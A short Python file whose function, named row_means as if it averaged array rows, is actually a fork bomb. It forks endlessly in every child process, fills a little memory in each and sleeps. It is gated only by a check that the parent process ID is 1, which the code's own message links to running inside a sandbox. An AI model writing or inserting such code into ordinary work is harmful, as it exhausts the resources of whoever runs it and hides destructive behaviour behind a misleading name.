# Forks as long as it may, in every child as well, and fills a little memory in each.
import os
import time

import numpy as np


def row_means(x):
    assert os.getppid() == 1, "outside of a sandbox it would hit the whole machine"
    try:
        while True:
            os.fork()
    except OSError:
        little = np.ones(2**20)
        time.sleep(60)
    return little
